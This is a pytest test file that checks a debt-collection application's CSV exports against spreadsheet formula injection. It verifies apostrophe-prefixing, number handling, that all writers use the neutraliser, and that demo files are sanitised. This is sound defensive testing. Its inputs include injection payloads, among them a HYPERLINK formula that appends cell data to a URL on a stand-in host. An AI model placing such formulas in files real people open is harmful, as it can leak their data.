"""No cell of a file people open in a spreadsheet starts a formula: text starting with =, +, -, @, a tab or a
carriage return gets a leading apostrophe; plain numbers stay numbers; every CSV writer of the code goes
through huikuan.spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from huikuan.demo.load import write_payments_file
from huikuan.demo.portfolio import CREDITORS, DemoAccount, DemoDebtor, write_placement_file
from huikuan.domain.enums import Product
from huikuan.spreadsheet import csv_writer, safe_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "huikuan"
FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_is_prefixed_with_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-12.50", "+8613800138000", "-5", "1e3", "-.5", "0"])
def test_a_plain_number_written_as_text_stays_a_number(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize(
    "value", ["张伟", "a=b", "HT-001", "", None, 12, -3, Decimal("-1.5"), date(2026, 3, 1)]
)
def test_other_cells_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_csv_writer_neutralises_every_cell_of_every_row() -> None:
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1", "-50", "@x", 7])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-50", "'@x", "7"]


def test_no_module_writes_csv_or_a_workbook_without_the_neutraliser() -> None:
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter|Workbook\(|write_csv\(|write_excel\(")
    found = [
        str(path.relative_to(SRC))
        for path in sorted(SRC.rglob("*.py"))
        if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    # storage/bulk.py's and storage/search_keys.py's CSV feed PostgreSQL's COPY, never a person.
    assert found == ["storage/bulk.py", "storage/search_keys.py"]


def _malicious_debtor() -> DemoDebtor:
    account = DemoAccount("=1+2", Product.CREDIT_CARD, 100_000, 0, 0, date(2026, 3, 1))
    return DemoDebtor(
        name='=HYPERLINK("http://x.invalid","x")',
        male=True,
        national_id=None,
        birth=date(1990, 1, 1),
        phones=["@phone"],
        address="-address+1",
        region="CA",
        zone="America/Los_Angeles",
        language="en",
        accounts=[account],
    )


def _cells(path: Path, encoding: str) -> list[str]:
    with path.open(encoding=encoding, newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_the_demo_files_are_neutralised_too(tmp_path: Path) -> None:
    creditor = next(c for c in CREDITORS if c.region == "US")
    placement = tmp_path / "placement.csv"
    write_placement_file(placement, creditor, [_malicious_debtor()])
    payments = tmp_path / "payments.csv"
    write_payments_file(payments, creditor, [(datetime(2026, 3, 2, 9), "=1+2", 5_000, "@card")])
    for path in (placement, payments):
        cells = _cells(path, creditor.encoding)
        assert not [c for c in cells if c and c[0] in "=+-@" and not re.fullmatch(r"[+-]?[\d.]+", c)], path
        assert "'=1+2" in cells
